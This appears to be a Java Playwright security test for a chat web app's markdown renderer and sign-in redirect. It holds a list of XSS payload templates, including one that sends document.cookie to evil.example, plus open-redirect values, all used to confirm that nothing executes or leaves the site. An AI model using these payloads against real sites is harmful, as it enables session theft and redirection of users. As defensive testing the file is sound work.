package dev.vaultgate.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a model may write is text, whatever it looks like. */
class HostileTextBrowserTest {

  private static final List<String> SCRIPTS =
      List.of(
          "window.ran=1",
          "parent.ran=1",
          "fetch('https://evil.example/?'+document.cookie)",
          "location='https://evil.example'");

  /** With a script in the place of the bracket. */
  private static final List<String> FORMS =
      List.of(
          "<script>{}</script>",
          "<img src=x onerror=\"{}\">",
          "<svg onload=\"{}\"></svg>",
          "<svg><script>{}</script></svg>",
          "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>",
          "<math><mtext><table><mglyph><style><img src=x onerror=\"{}\">",
          "<body onload=\"{}\">",
          "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
          "<iframe src=\"javascript:{}\"></iframe>",
          "<object data=\"javascript:{}\"></object>",
          "<embed src=\"javascript:{}\">",
          "<details open ontoggle=\"{}\">",
          "<input autofocus onfocus=\"{}\">",
          "<video><source onerror=\"{}\"></video>",
          "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example) }</style>",
          "<link rel=stylesheet href=https://evil.example/x.css>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<base href=https://evil.example>",
          "<form action=https://evil.example><button>go</button></form>",
          "<a href=\"javascript:{}\">x</a>",
          "[x](javascript:{})",
          "[x](  javascript:{})",
          "[x](JaVaScRiPt:{})",
          "[x](data:text/html,<script>{}</script>)",
          "[x](vbscript:{})",
          "![x](https://evil.example/pixel.png)",
          "![x](javascript:{})",
          "[![x](https://evil.example/a.png)](https://evil.example)",
          "<https://evil.example/{}>",
          "[x]: https://evil.example\n\n![][x]",
          "```html\n<script>{}</script>\n```",
          "```mermaid\ngraph TD; A[\"<img src=x onerror={}>\"]\n```",
          "```<img src=x onerror={}>\ncode\n```",
          "`<img src=x onerror=\"{}\">`",
          "| a | <img src=x onerror=\"{}\"> |\n|---|---|\n| b | c |",
          "- [x] <img src=x onerror=\"{}\">",
          "# <img src=x onerror=\"{}\">",
          "> <script>{}</script>",
          "<!--><img src=x onerror=\"{}\">-->",
          "</vg-markdown><script>{}</script>");

  private static Chromium chromium;
  private static RunningGateway gateway;

  @BeforeAll
  static void start(@TempDir Path folder) throws Exception {
    chromium = Chromium.launch();
    gateway = RunningGateway.start(folder);
  }

  @AfterAll
  static void stop() throws Exception {
    for (AutoCloseable opened : new AutoCloseable[] {gateway, chromium}) {
      if (opened != null) {
        opened.close();
      }
    }
  }

  private static List<String> payloads() {
    List<String> payloads = new ArrayList<>();
    for (String form : FORMS) {
      for (String script : SCRIPTS) {
        payloads.add(form.replace("{}", script));
      }
    }
    return payloads;
  }

  @Test
  void s65S66NothingThatAModelWritesRunsOrAsksAnybody() {
    try (Visit visit = Visit.of(chromium, 1200)) {
      Page page = visit.page();
      page.navigate(gateway.address() + "/chat");
      page.locator("vg-connect").waitFor();
      page.evaluate("import('/web/js/ui/markdown.js')");
      page.evaluate(
          """
          () => {
            window.violations = [];
            document.addEventListener('securitypolicyviolation',
                event => window.violations.push(event.violatedDirective + ' ' + event.blockedURI));
          }""");
      visit.requested().clear();
      visit.complaints().clear();

      for (String payload : payloads()) {
        page.evaluate(
            """
            async text => {
              const place = document.createElement('vg-markdown');
              document.body.append(place);
              place.text = text;
              await new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)));
              place.querySelectorAll('a, button, details').forEach(one => one.focus?.());
            }""",
            payload);
      }
      page.waitForTimeout(500);

      assertThat(payloads()).hasSizeGreaterThanOrEqualTo(150);
      assertThat(page.evaluate("window.ran")).isNull();
      assertThat((List<?>) page.evaluate("window.violations")).isEmpty();
      assertThat(visit.complaints()).isEmpty();
      assertThat(visit.requested()).allMatch(url -> url.startsWith(gateway.address()));
      assertThat(
              page.evaluate(
                  "document.querySelectorAll('vg-markdown img, vg-markdown iframe,"
                      + " vg-markdown script, vg-markdown style, vg-markdown svg, vg-markdown form').length"))
          .isEqualTo(0);
      assertThat(
              (List<?>)
                  page.evaluate(
                      "[...document.querySelectorAll('vg-markdown a')].map(a => a.protocol)"))
          .isNotEmpty()
          .allMatch(protocol -> protocol.equals("https:") || protocol.equals("http:"));
      assertThat(
              (List<?>)
                  page.evaluate("[...document.querySelectorAll('vg-markdown a')].map(a => a.rel)"))
          .allMatch(rel -> rel.toString().contains("noopener noreferrer"));
    }
  }

  @Test
  void s74WayOnAfterSigningInIsOursAlone() {
    try (Visit visit = Visit.of(chromium, 1200)) {
      Page page = visit.page();
      page.navigate(gateway.address() + "/chat");
      for (String next :
          List.of(
              "//evil.example",
              "https://evil.example",
              "javascript:alert(1)",
              "/\\evil.example",
              "\\\\evil.example",
              "http:evil.example")) {
        Object path =
            page.evaluate(
                """
                async next => {
                  history.replaceState(null, '', '/sign-in?next=' + encodeURIComponent(next));
                  const { nextPath } = await import('/web/js/core/router.js');
                  return new URL(nextPath(), location.origin).origin === location.origin
                      && nextPath().startsWith('/') && !nextPath().startsWith('//');
                }""",
                next);
        assertThat(path).as(next).isEqualTo(true);
      }
    }
  }
}
